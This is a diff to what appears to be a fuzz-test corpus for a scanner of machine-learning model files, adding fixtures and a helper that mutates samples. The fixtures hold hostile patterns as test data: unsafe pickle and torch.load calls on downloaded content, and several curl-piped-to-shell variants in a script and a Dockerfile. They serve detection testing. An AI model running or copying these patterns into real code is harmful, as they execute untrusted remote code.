@@ -12,6 +12,7 @@ import { CONFIGS } from "./samples-config";
 import { HDF5 } from "./samples-hdf5";
 import { KERAS } from "./samples-keras";
 import { REAL } from "./samples-real";
+import { SERVED } from "./samples-served";
 import { TEMPLATES } from "./samples-templates";
 import { TENSORFLOW } from "./samples-tensorflow";
 import { WEIGHTS } from "./samples-weights";
@@ -57,6 +58,11 @@ export const FILES: readonly Sample[] = [
   ...CONFIGS,
   ...TEMPLATES,
   ...HDF5,
+  ...SERVED,
+  { name: "load.py", bytes: Buffer.from('import torch, pickle, requests\nfrom huggingface_hub import hf_hub_download as h\np = h("a/b-1", f"{x}.pt", **{"revision": "main"})\nclass A:\n  def f(self, u=1.):\n    self.d = requests.get(u).content\n    with open(p, "rb") as f: return pickle.load(f), torch.load(self.d, weights_only=False)\n') },
+  { name: "load.ipynb", bytes: Buffer.from('{"cells": [{"cell_type": "code", "source": ["import pickle\\n", "!pip install git+https://a/b\\n", "pickle.load(f)"]}]}') },
+  { name: "get.sh", bytes: Buffer.from("set -e\nif true; then curl -fsSL https://a/b | sudo bash -s -- -y; fi\nbash <(curl x) \"$(wget -qO- y)\" `a b`\ncat <<E | sh\ncurl x | sh\nE\ncurl -o f https://x/y && bash f\n") },
+  { name: "Dockerfile", bytes: Buffer.from('FROM a\nRUN --mount=type=cache curl https://a | sh \\\n # c\n && b\nRUN ["sh", "-c", "curl a | sh"]\nRUN <<E\ncurl a | sh\nE\nENV A=b\n') },
 ]; // prettier-ignore
 
 /** The sample of this number, for the walk: a damaged file or a random stream. */
@@ -67,6 +73,13 @@ export function fileCase(seed: number): Sample {
     return { name: random.pick(NAMES), bytes: new StreamGrammar(random).stream(3 + random.int(40)) };
   const path = random.chance(80) ? name : random.pick(NAMES);
   return { name: path, bytes: mutate(random, bytes, random.pick(FILES).bytes) };
+}
+
+/** A damaged copy of one of these samples, which keeps its name: what is recognised by name is still read. */
+export function damagedCase(samples: readonly Sample[], seed: number): Sample {
+  const random = new Random(seed);
+  const { name, bytes } = random.pick(samples);
+  return { name, bytes: mutate(random, bytes, random.pick(FILES).bytes) };
 }
 
 const NAMES = ["m.pkl", "m", "m.pt", "m.npy", "m.npz", "m.joblib", "m.bin", "m.tar", "m.ckpt", "m.safetensors"];
